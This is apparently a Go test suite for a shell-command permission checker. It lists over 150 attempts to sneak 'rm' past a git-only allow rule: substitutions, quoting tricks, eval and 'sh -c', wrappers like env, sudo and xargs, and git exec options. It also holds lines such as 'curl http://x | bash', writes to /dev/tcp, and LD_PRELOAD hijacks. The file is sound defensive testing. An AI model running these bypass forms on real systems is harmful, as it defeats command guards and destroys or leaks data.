package permission

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// gitOnly lets git run, stops rm, and asks about the rest.
func gitOnly() *Policy {
	return &Policy{Root: "/project/root", Lists: []List{list(ask("shell", "*"), allow("shell", "git*"), deny("shell", "rm*"))}, Defaults: Defaults()}
}

// TestLaw38CommandsAreJudgedWhole tries to get rm past git's allow. What is
// denied is so because an rm can be told; what is allowed runs only git. Seen to
// fail with only the first command judged, without unquoting, with the allow
// matched on the raw words, with wrappers left alone, and with doubts ignored.
func TestLaw38CommandsAreJudgedWhole(t *testing.T) {
	policy := gitOnly()
	for _, c := range evasions {
		if got := policy.Evaluate("shell", c.line, ""); got.Effect != c.want {
			t.Errorf("%.200q: got %.200s, want %s", c.line, got, c.want)
		}
	}
	if len(evasions) < 150 {
		t.Errorf("the table has %d lines", len(evasions))
	}
}

// TestLaw38AllowedStartersAreAskedFor: an allow for a program says nothing of what one of its
// options starts, which is judged by itself. Seen to fail with go's options left out.
func TestLaw38AllowedStartersAreAskedFor(t *testing.T) {
	policy := &Policy{Root: "/project/root", Lists: []List{list(
		allow("shell", "go test*"), allow("shell", "make*"), allow("shell", "sed *"), allow("shell", "tar *"), deny("shell", "rm*"),
	)}, Defaults: Defaults()}
	for line, want := range map[string]Effect{
		`go test ./...`: Allow, `make test`: Allow, `sed -n 1,5p f`: Allow, `tar xzf a`: Allow,
		`go test -exec "rm -rf" ./...`: Deny, `go test -exec=./x ./...`: Ask, `make SHELL=./x`: Ask, `sed '1e ./x' f`: Ask, `tar xf a --to-command='rm x'`: Deny,
	} {
		if got := policy.Evaluate("shell", line, ""); got.Effect != want {
			t.Errorf("%s: got %s, want %s", line, got, want)
		}
	}
}

// TestLaw38WhatIsAllowedRunsOnlyGit runs what is allowed, of the table and of
// lines thrown together from pieces of the grammar, in the shells themselves: an
// rm that they run leaves a mark. Seen to fail with the comments that end in a
// backslash, and with &> read as bash only.
func TestLaw38WhatIsAllowedRunsOnlyGit(t *testing.T) {
	shells := []string{"bash", "sh"}
	for i, shell := range shells {
		found, err := exec.LookPath(shell)
		switch {
		case err == nil:
			shells[i] = found
		case os.Getenv("CI") != "":
			t.Fatal(err)
		default:
			t.Skip(err)
		}
	}
	programs, dir := t.TempDir(), t.TempDir()
	mark := filepath.Join(t.TempDir(), "mark")
	for name, script := range map[string]string{"git": "#!/bin/sh\n", "rm": "#!/bin/sh\necho >'" + mark + "'\n"} {
		if err := os.WriteFile(filepath.Join(programs, name), []byte(script), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	run := func(line string) (marked bool) {
		for _, shell := range shells {
			command := exec.CommandContext(t.Context(), shell, "-c", line)
			command.Dir, command.Env = dir, []string{"PATH=" + programs}
			_ = command.Run() // most lines are no good ones
			if _, err := os.Stat(mark); err == nil {
				return true
			}
		}
		return false
	}
	if !run("git status; rm f") {
		t.Fatal("the rm of the test leaves no mark")
	}
	if err := os.Remove(mark); err != nil {
		t.Fatal(err)
	}
	policy := New(gitOnly(), nil).policy
	for _, c := range evasions {
		if c.want == Allow && run(c.line) {
			t.Fatalf("%q: an rm was run", c.line)
		}
	}
	rapid.Check(t, func(t *rapid.T) {
		line := "git " + strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 1, 14).Draw(t, "pieces"), "")
		if policy.Evaluate("shell", line, "").Effect == Allow && run(line) {
			t.Fatalf("%q: an rm was run", line)
		}
	})
}

// pieces are what lines are thrown together from.
var pieces = []string{
	"git ", "git status", "rm", "rm f", "\nrm f\n", ";", "|", "&", "&&\n", "\n", "(", ")", "{ ", "}", "'", "\"", "`", "$(", "\\", "\\\n", "#", " #",
	"<<E\n", "<<'E'\n", "<<-E\n", "\nE\n", "\n\tE\n", "<", ">/dev/null", "2>&1", "&>/dev/null", "! ", "if ", "then ", "fi", "do ", "done", "while ",
	"case a in a) ", "esac", ";;", "[[ ", "]]", "((", "))", "=", "LANG=C ", "for LANG in ", "*", "[", "]", "{a,b}", ",", "$'", "${", "${#", "}", ":-", "@(",
	"time ", "function f ", "f() ", "<(", "<<<", "$[", "/", "-", "%", "é", "\t", " ", "~", "^", "coproc ", "\r", "x",
}

// evasions are lines with their verdicts under [gitOnly].
var evasions = []struct {
	line string
	want Effect
}{
	// Only git.
	{"git status", Allow},
	{"  git   status  ", Allow},
	{"git status && git log", Allow},
	{"git log | git shortlog; git status &", Allow},
	{"'git' \"status\"", Allow},
	{`g\it status`, Allow},
	{"git rm f", Allow},
	{"git commit -m 'rm the file'", Allow},
	{"git add '*.go'", Allow},
	{"git status 2>&1 >/dev/null", Allow},
	{"(git status)", Allow},
	{"{ git status; }", Allow},
	{"if git diff --quiet; then git status; fi", Allow},
	{"LANG=C git log", Allow},
	{"time git status", Allow},
	{"! git diff", Allow},
	{"git status # rm f", Allow},
	{"git {status,log}", Allow},
	{"git log --format='%h (rm)'", Allow},
	{"", Ask},
	{"   ", Ask},
	{"# rm f", Ask},

	// Several short options in one word.
	{"git rebase -ix 'rm f' HEAD~1", Deny},
	{"git rebase -kx 'rm f' HEAD~1", Deny},
	{"git grep -nOrm x", Deny},
	{"git grep -iO'rm -f' x", Deny},
	{"git clone -qu 'rm f' a b", Deny},
	{"git clone -qc core.sshCommand='rm f' a b", Ask},
	{"git archive -o.git/hooks/x HEAD", Ask},
	{"git archive -vo f HEAD", Ask},
	{"git format-patch -o/tmp HEAD", Ask},
	{"git format-patch -no /tmp HEAD", Ask},
	{"git log -n1 -x", Allow},

	// What becomes names of files may become anything.
	{"git add *.go", Ask},
	{"git rebase *", Ask},
	{"git log [a-z]", Ask},
	{"git log a?", Ask},
	{"git log @(a|b)", Ask},
	{"git log {*,b}", Ask},
	{`git log \* '?' "[a]"`, Allow},

	// C01: chains.
	{"rm f", Deny},
	{"git status && rm f", Deny},
	{"git status; rm f", Deny},
	{"git status || rm f", Deny},
	{"git status | rm f", Deny},
	{"git status |& rm f", Deny},
	{"git status & rm f", Deny},
	{"git status\nrm f", Deny},
	{"git status\r\nrm f", Deny},
	{"git status;rm f", Deny},
	{"git status&&rm f", Deny},
	{"git status && touch pwn", Ask},
	{"git status; touch pwn", Ask},
	{"git status || touch pwn", Ask},
	{"git status | touch pwn", Ask},
	{"git status & touch pwn", Ask},
	{"git status\ntouch pwn", Ask},
	{"git status\r\ntouch pwn", Ask},
	{"git status\r\ngit log", Ask},
	{"git status \\\n; rm f", Deny},

	// Grouping and control flow.
	{"(rm f)", Deny},
	{"(git status; (rm f))", Deny},
	{"{ rm f; }", Deny},
	{"! rm f", Deny},
	{"time rm f", Deny},
	{"time -p rm f", Deny},
	{"coproc rm f", Deny},
	{"coproc C { rm f; }", Deny},
	{"if true; then rm f; fi", Deny},
	{"if rm f; then git status; fi", Deny},
	{"if git status; then git log; elif rm f; then git log; else git log; fi", Deny},
	{"if git status; then git log; else rm f; fi", Deny},
	{"while rm f; do git status; done", Deny},
	{"until git status; do rm f; done", Deny},
	{"for LANG in a b; do rm f; done", Deny},
	{"for f in *; do git add x; done", Ask},
	{"for ((i=0;i<1;i++)); do rm f; done", Deny},
	{"select x in a; do rm f; done", Deny},
	{"case x in x) rm f;; esac", Deny},
	{"case x in y) git status;; *) rm f;; esac", Deny},
	{"case $(rm f) in x) git status;; esac", Deny},
	{"f() { rm f; }", Deny},
	{"f() { rm f; }; f", Deny},
	{"function g { rm f; }", Deny},
	{"git() { rm f; }; git status", Deny},
	{"git() { /tmp/x; }; git status", Ask},
	{"f() (rm f)", Deny},

	// Substitutions.
	{"git log $(rm f)", Deny},
	{"git log `rm f`", Deny},
	{"git log \"$(rm f)\"", Deny},
	{"git log \"`rm f`\"", Deny},
	{"git log <(rm f)", Deny},
	{"git log >(rm f)", Deny},
	{"git log ${x:-$(rm f)}", Deny},
	{"git log ${x:=`rm f`}", Deny},
	{"git log ${x/a/$(rm f)}", Deny},
	{"git log ${a[$(rm f)]}", Deny},
	{"git log $((1+$(rm f)))", Deny},
	{"git log $[1+$(rm f)]", Deny},
	{"((x=$(rm f)))", Deny},
	{"[[ -n $(rm f) ]]", Deny},
	{"[[ a =~ $(rm f) ]]", Deny},
	{"x=$(rm f) git status", Deny},
	{"x=$(rm f)", Deny},
	{"x=(a $(rm f))", Deny},
	{"x[$(rm f)]=1", Deny},
	{"export x=$(rm f)", Deny},
	{"declare -a x=($(rm f))", Deny},
	{"let x=$(rm f)", Deny},
	{"git status > $(rm f)", Deny},
	{"git status < <(rm f)", Deny},
	{"git status <<< $(rm f)", Deny},
	{"git apply <<E\n$(rm f)\nE", Deny},
	{"git apply <<E\n`rm f`\nE", Deny},
	{"git apply <<'E'\n$(rm f)\nE", Allow},
	{"git log $(git log $(rm f))", Deny},
	{"git log `git log \\`rm f\\``", Deny},
	{"git log $(echo rm)", Ask},
	{"git log $x", Ask},
	{"$x rm f", Deny},
	{"r$@m f", Deny},
	{"r${x}m f", Deny},
	{"$(echo rm) f", Ask},
	{"`echo rm` f", Ask},
	{"${x:-rm} f", Ask},
	{"$RM f", Ask},
	{"\"$@\"", Ask},
	{"test -v 'x[$(rm f)]'", Ask},
	{"git log $(( 'a[$(rm f)]' ))", Ask},

	// Spellings of the name.
	{"'rm' f", Deny},
	{"\"rm\" f", Deny},
	{"r'm' f", Deny},
	{"'r'm f", Deny},
	{"r\"\"m f", Deny},
	{`r\m f`, Deny},
	{`\rm f`, Deny},
	{"r\\\nm f", Deny},
	{"$'rm' f", Deny},
	{`$'\x72m' f`, Deny},
	{`$'\162\155' f`, Deny},
	{`$'\u0072m' f`, Deny},
	{`$'rm\0x' f`, Deny},
	{"$\"rm\" f", Deny},
	{"/bin/rm f", Deny},
	{"/usr/bin/../bin/rm f", Deny},
	{"./rm f", Deny},
	{"~/bin/rm f", Deny},
	{"'/bin/rm' f", Deny},
	{"/bin/r\"m\" f", Deny},
	{"RM f", Deny},
	{"{rm,f}", Deny},
	{"{rm,x,y}", Deny},
	{"{,rm} f", Deny},
	{"{r,}m f", Deny},
	{"{r..r}m f", Deny},
	{"r? f", Ask},
	{"/bin/r? f", Ask},
	{"/bin/r[m] f", Ask},
	{"r* f", Ask},
	{"!(rm) f", Ask},
	{"r\x00m f", Deny},
	{"'git status' f", Ask},
	{"'' rm f", Deny},
	{"./git status", Ask},
	{"/tmp/git status", Ask},
	{"git\xff status", Ask},
	{"rm\tf", Deny},
	{"rm", Deny},
	{"{rm,f", Ask},
	{"git {rm,{f", Allow},

	// Assignments in front.
	{"FOO=1 rm f", Deny},
	{"FOO=1 BAR=2 /bin/rm f", Deny},
	{"PATH=/tmp git status", Ask},
	{"PATH=/tmp:$PATH git status", Ask},
	{"LD_PRELOAD=./x.so git status", Ask},
	{"GIT_SSH_COMMAND='rm f' git fetch", Ask},
	{"GIT_EXTERNAL_DIFF=rm git diff", Ask},
	{"PATH=/tmp; git status", Ask},
	{"export PATH=/tmp; git status", Ask},
	{"x=rm; $x f", Ask},
	{"IFS=x; git status", Ask},
	{"PS4='$(rm f)'; set -x; git status", Ask},
	{"BASH_ENV=x git status", Ask},
	{"for PATH in /tmp; do git status; done", Ask},
	{"git status {PATH}>/dev/null", Ask},

	// Shells and builtins that run text.
	{"eval rm f", Deny},
	{"eval 'rm f'", Deny},
	{"eval \"git status; rm f\"", Deny},
	{"eval -- rm f", Deny},
	{"eval r'm f'", Deny},
	{"eval $x", Ask},
	{"eval git status", Ask},
	{"builtin eval rm f", Deny},
	{"sh -c 'rm f'", Deny},
	{"bash -c 'rm f'", Deny},
	{"bash -ec 'rm f'", Deny},
	{"bash -xec 'rm f'", Deny},
	{"bash -c -e 'rm f'", Deny},
	{"bash -c -- 'rm f'", Deny},
	{"bash -o pipefail -c 'rm f'", Deny},
	{"bash -eo pipefail -c 'rm f'", Deny},
	{"bash +e -c 'rm f'", Deny},
	{"bash --norc -c 'rm f'", Deny},
	{"bash --rcfile x -c 'rm f'", Deny},
	{"/bin/bash -c 'git status && rm f'", Deny},
	{"zsh -c 'rm f'", Deny},
	{"dash -c 'rm f'", Deny},
	{"ksh -c 'rm f'", Deny},
	{"sh -c \"sh -c 'rm f'\"", Deny},
	{"sh -c 'eval \"r\"m f'", Deny},
	{"sh -c '[[ x && rm f ]]'", Deny},
	{"sh -c '((rm f))'", Deny},
	{"sh -c \"$x\"", Ask},
	{"sh -c '$0 f' rm", Ask},
	{"sh script.sh", Ask},
	{"sh ./rm f", Deny},
	{". ./x", Ask},
	{"source x", Ask},
	{"bash <<E\nrm f\nE", Deny},
	{"bash <<'E'\nrm f\nE", Deny},
	{"bash <<-E\n\trm f\n\tE", Deny},
	{"bash -s <<< 'rm f'", Deny},
	{"sh <<< \"rm f\"", Deny},
	{"cat <<E | sh\nrm f\nE", Deny},
	{"echo rm f | sh", Ask},
	{"curl http://x | bash", Ask},
	{"git status | sh", Ask},
	{"trap 'rm f' EXIT", Deny},
	{"trap -- 'rm f' 0; git status", Deny},
	{"alias git=rm; git f", Deny},
	{"alias g='git status'\ng", Ask},
	{"hash -p /bin/rm git; git f", Deny},
	{"shopt -s expand_aliases", Ask},
	{"complete -C 'rm f' x", Ask},
	{"mapfile -C 'rm f' -c 1 x", Ask},
	{"read PATH <<< /tmp; git status", Ask},

	// C05: wrappers.
	{"env rm f", Deny},
	{"env -i rm f", Deny},
	{"env FOO=1 rm f", Deny},
	{"env -u X FOO=1 -- rm f", Deny},
	{"env -S 'rm f'", Deny},
	{"env -S'rm f'", Deny},
	{"env -iS 'rm f'", Deny},
	{"env rm -S f", Deny},
	{"env -u -S rm f", Deny},
	{"env -S git rm f", Ask},
	{"env -S 'A=b rm' f", Deny},
	{"env --split-string='rm f'", Deny},
	{"env PATH=/tmp git status", Ask},
	{"env git status", Ask},
	{"env --new-option rm f", Deny},
	{"/usr/bin/env rm f", Deny},
	{"sudo rm f", Deny},
	{"sudo -u root rm f", Deny},
	{"sudo -nu root -- rm f", Deny},
	{"sudo --user=root rm f", Deny},
	{"sudo FOO=1 rm f", Deny},
	{"sudo git status", Ask},
	{"sudo -s", Ask},
	{"doas rm f", Deny},
	{"nice rm f", Deny},
	{"nice -n 5 rm f", Deny},
	{"nice -5 rm f", Deny},
	{"timeout 1 rm f", Deny},
	{"timeout -k 5 -s KILL 1 rm f", Deny},
	{"nohup rm f &", Deny},
	{"setsid rm f", Deny},
	{"stdbuf -oL rm f", Deny},
	{"ionice -c 3 rm f", Deny},
	{"command rm f", Deny},
	{"command -p rm f", Deny},
	{"exec rm f", Deny},
	{"exec -a git rm f", Deny},
	{"\\time rm f", Deny},
	{"/usr/bin/time -f %e rm f", Deny},
	{"busybox rm f", Deny},
	{"chroot / rm f", Deny},
	{"xargs rm", Deny},
	{"echo f | xargs rm", Deny},
	{"xargs -0 -n 1 rm -f", Deny},
	{"xargs -I{} rm {}", Deny},
	{"xargs sh -c 'rm f'", Deny},
	{"xargs git add", Ask},
	{"find . -exec rm {} +", Deny},
	{"find . -exec rm {} \\;", Deny},
	{"find . -name x -execdir /bin/rm {} ';'", Deny},
	{"find . -ok rm {} \\;", Deny},
	{"find . -exec git add {} + -exec rm {} +", Deny},
	{"find . -exec sh -c 'rm \"$1\"' _ {} \\;", Deny},
	{"find . -delete", Ask},
	{"watch rm f", Deny},
	{"watch -n 1 'git status; rm f'", Deny},
	{"parallel rm ::: f", Deny},
	{"ssh host rm f", Deny},
	{"ssh host 'git status; rm f'", Deny},
	{"strace -f rm f", Deny},
	{"env sudo nice timeout 1 rm f", Deny},
	{"nice $x rm f", Deny},
	{"./myrun rm f", Deny},
	{"./myrun --flag /bin/rm f", Deny},
	{"./myrun -c 'rm f'", Ask},
	{"./myrun --run='rm f'", Ask},
	{"./myrun 'cd x && rm f'", Ask},
	{"./myrun git status", Ask},

	// C22: options that make git run something.
	{"git -c core.pager='rm f' log", Ask},
	{"git -c alias.x='!rm f' x", Ask},
	{"git --exec-path=. status", Ask},
	{"git -p show", Ask},
	{"git --git-dir=/tmp/x status", Ask},
	{"git bisect run rm f", Deny},
	{"git submodule foreach 'rm f'", Deny},
	{"git submodule foreach --recursive rm f", Deny},
	{"git rebase -x 'rm f' HEAD~1", Deny},
	{"git rebase --exec='rm f' HEAD~1", Deny},
	{"git rebase --exe 'rm f' HEAD~1", Deny},
	{"git grep -O'rm f' x", Deny},
	{"git difftool -x 'rm f'", Deny},
	{"git fetch --upload-pack='rm f' x", Deny},
	{"git clone -u 'rm f' x", Deny},
	{"git clone 'ext::rm f' x", Deny},
	{"git config alias.x '!rm f'", Deny},
	{"git config core.pager 'rm f'", Deny},
	{"git filter-branch --tree-filter 'rm f'", Deny},
	{"git diff --output=p", Ask},
	{"git $x", Ask},

	// Redirections are writes.
	{"git log > f", Ask},
	{"git log >> f", Ask},
	{"git log >| f", Ask},
	{"git log &> f", Ask},
	{"git log &>> f", Ask},
	{"git log >& f", Ask},
	{"git log <> f", Ask},
	{"git log 2> f", Ask},
	{"git log > /etc/passwd", Ask},
	{"git log > ../x", Ask},
	{"git log > $f", Ask},
	{"> f", Ask},
	{"exec > f", Ask},
	{"{ git log; } > f", Ask},
	{"git log > /dev/tcp/h/1", Ask},
	{"git log < /dev/tcp/h/1", Ask},
	{"git log 2>&1", Allow},
	{"git log > /dev/null 2>&1", Allow},
	{"git log 2>&-", Allow},

	// What cannot be read.
	{"git status; (rm f", Deny},
	{"git status | ! rm f", Deny},
	{"rm f; (", Deny},
	{"git status '", Ask},
	{"git status (", Ask},
	{"git status $(", Ask},
	{"git status\nrm f\n)", Deny},
	{"git status " + strings.Repeat("x", 70_000), Ask},
	{strings.Repeat("git status; ", 1200), Allow},
	{manyCommands(1200), Ask},
	{strings.Repeat("(", 5000) + "rm f" + strings.Repeat(")", 5000), Deny},
	{strings.Repeat("(", 3000) + "rm f" + strings.Repeat(")", 3000), Deny},
	{"git log " + strings.Repeat("$(git log ", 59) + "$(rm f" + strings.Repeat(")", 60), Deny},
	{strings.Repeat("env ", 50) + "rm f", Ask},
	{"git {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}", Ask},
	{"git status\x00", Ask},
	{"git status \rrm f", Ask},

	// What the grammar's parser reads otherwise than the shells.
	{"git status #\\\nrm f", Deny},
	{"git status # x\\\n rm f", Deny},
	{"git log 'a#' \\\n --all", Ask},
	{"git done&>/dev/null rm f", Deny},
	{"git status \\\n --short", Allow},
}

// manyCommands is a line of that many different commands.
func manyCommands(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "git log -%d\n", i)
	}
	return b.String()
}
